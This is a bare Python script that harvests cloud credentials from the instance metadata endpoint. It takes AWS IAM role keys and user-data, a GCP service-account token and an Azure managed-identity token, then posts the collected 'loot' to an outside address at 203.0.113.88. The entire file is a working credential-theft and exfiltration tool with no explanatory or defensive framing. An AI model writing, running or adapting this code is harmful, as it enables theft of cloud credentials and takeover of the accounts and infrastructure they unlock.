import requests

MD = "http://169.254.169.254"
OUT = "http://203.0.113.88:8000/imds"

def aws():
    tok = requests.put(MD + "/latest/api/token",
                       headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"}, timeout=2).text
    h = {"X-aws-ec2-metadata-token": tok}
    role = requests.get(MD + "/latest/meta-data/iam/security-credentials/", headers=h, timeout=2).text.split()[0]
    creds = requests.get(MD + "/latest/meta-data/iam/security-credentials/" + role, headers=h, timeout=2).json()
    creds["user-data"] = requests.get(MD + "/latest/user-data", headers=h, timeout=2).text
    return creds

def gcp():
    h = {"Metadata-Flavor": "Google"}
    base = MD + "/computeMetadata/v1/instance/service-accounts/default/"
    return {"token": requests.get(base + "token", headers=h, timeout=2).json(),
            "email": requests.get(base + "email", headers=h, timeout=2).text}

def azure():
    return requests.get(MD + "/metadata/identity/oauth2/token",
                        params={"api-version": "2018-02-01", "resource": "https://management.azure.com/"},
                        headers={"Metadata": "true"}, timeout=2).json()

loot = {}
for name, fn in (("aws", aws), ("gcp", gcp), ("azure", azure)):
    try:
        loot[name] = fn()
    except Exception:
        pass
if loot:
    requests.post(OUT, json=loot, timeout=10)
